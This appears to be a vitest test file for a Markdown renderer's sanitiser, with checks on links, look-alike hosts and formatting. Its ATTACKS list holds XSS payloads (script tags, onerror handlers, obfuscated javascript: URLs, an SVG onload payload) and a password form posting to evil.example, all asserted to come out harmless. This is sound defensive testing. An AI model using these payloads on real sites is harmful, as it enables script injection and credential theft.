import { describe, expect, test } from "vitest";
import { addressHost, safeAddress } from "./address";
import { renderMarkdown, sanitise } from "./markdown";

function html(source: string): string {
	const div = document.createElement("div");
	div.append(renderMarkdown(source));
	return div.innerHTML;
}

/* Everything that may run or load, whatever the spelling. */
const ATTACKS = [
	"<script>alert(1)</script>",
	"<img src=x onerror=alert(1)>",
	'<a href="javascript:alert(1)">x</a>',
	"[x](javascript:alert(1))",
	"[x](JaVaScRiPt:alert(1))",
	"[x](java\tscript:alert(1))",
	"[x](&#106;avascript:alert(1))",
	"[x](data:text/html,<script>alert(1)</script>)",
	"[x](vbscript:msgbox(1))",
	"[x](blob:https://evil.example/1)",
	"<javascript:alert(1)>",
	"![x](https://evil.example/p.png)",
	'![x" onerror="alert(1)](https://evil.example/p.png)',
	"![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)",
	"<svg onload=alert(1)><circle/></svg>",
	"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
	'<iframe src="https://evil.example"></iframe>',
	"<style>*{display:none}</style>",
	'<div style="position:fixed;inset:0">x</div>',
	"<form action=https://evil.example><input name=password><button>x</button></form>",
	'<base href="https://evil.example/">',
	'<meta http-equiv=refresh content="0;url=https://evil.example">',
	'<link rel=stylesheet href="https://evil.example/x.css">',
	"<object data=x></object><embed src=x>",
	"`<img src=x onerror=alert(1)>`",
	"| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
	"- <details open ontoggle=alert(1)>",
	"# <img src=x onerror=alert(1)>",
	'[a](https://ok.example "title\\" onmouseover=\\"alert(1)")',
	"[![x](https://evil.example/a.png)](javascript:alert(1))",
	"```html\n<script>alert(1)</script>\n```",
	"<a href='https://ok.example' onclick='alert(1)'>x</a>",
	"<x id=app></x><a name=csrf></a>",
	"\u0000<scr\u0000ipt>alert(1)</script>",
];
const TAGS = new Set("P BR STRONG EM DEL CODE PRE H3 H4 H5 H6 UL OL LI BLOCKQUOTE HR TABLE THEAD TBODY TR TH TD A SPAN DIV".split(" "));
const ATTRIBUTES = new Set("href start align class target rel title".split(" "));

function assertHarmless(root: ParentNode) {
	for (const el of root.querySelectorAll("*")) {
		expect(TAGS.has(el.tagName), `${el.tagName} is allowed`).toBe(true);
		for (const a of el.attributes) expect(ATTRIBUTES.has(a.name), `${el.tagName} ${a.name}`).toBe(true);
		const href = el.getAttribute("href");
		if (href !== null) expect(href).toMatch(/^(https?:\/\/|mailto:)/);
	}
}

describe("hostile text", () => {
	test.each(ATTACKS)("is harmless: %j", (source) => assertHarmless(renderMarkdown(source)));
	test.each(ATTACKS)("is harmless even when the renderer lets it through: %j", (source) => assertHarmless(sanitise(source)));
	test("HTML is shown as what it is", () => {
		expect(html("<b>x</b>")).toBe("<p>&lt;b&gt;x&lt;/b&gt;</p>\n");
	});
	test("a picture becomes a link with its name", () => {
		expect(html("![Plan](https://h.example/a.png)")).toContain('class="image-off" href="https://h.example/a.png"');
	});
});

describe("links", () => {
	test("open apart and say where they lead", () => {
		expect(html("[Bank](https://bank.example.evil.example/login)")).toBe(
			'<p><a href="https://bank.example.evil.example/login" target="_blank" rel="noopener noreferrer nofollow" title="bank.example.evil.example">Bank</a></p>\n',
		);
	});
	test("show the real host of look-alikes", () => {
		const url = safeAddress("https://аррӏе.com@evil.example:8443/x");
		expect(url && addressHost(url)).toBe("evil.example:8443");
		const idn = safeAddress("https://аpple.com/");
		expect(idn && addressHost(idn)).toMatch(/^xn--/);
	});
	test("relative and unknown addresses are no links", () => {
		expect(html("[x](/team/v1/logout)")).toBe("<p>x</p>\n");
		expect(safeAddress("file:///etc/passwd")).toBeNull();
		expect(safeAddress("https://")).toBeNull();
	});
});

describe("Markdown", () => {
	test("headings begin below the page's own", () => expect(html("# A")).toBe("<h3>A</h3>"));
	test("tables keep alignment and can be scrolled", () => {
		const h = html("| a | b |\n|:-:|--:|\n| 1 | 2 |");
		expect(h).toContain('<div class="table-wrap"><table><thead><tr><th align="center">a</th><th align="right">b</th>');
	});
	test("task lists are text, not inputs", () => expect(html("- [x] done\n- [ ] open")).toMatch(/task-done">☑.*task">☐/s));
	test("numbered lists keep their start", () => expect(html("3. c\n4. d")).toContain('<ol start="3">'));
	test("a line break is a line break", () => expect(html("a\nb<br>c")).toBe("<p>a<br>b<br>c</p>\n"));
	test("German and emoji stay whole", () => expect(html("Größe – „ja“ 😀 ß")).toBe("<p>Größe – „ja“ 😀 ß</p>\n"));
});
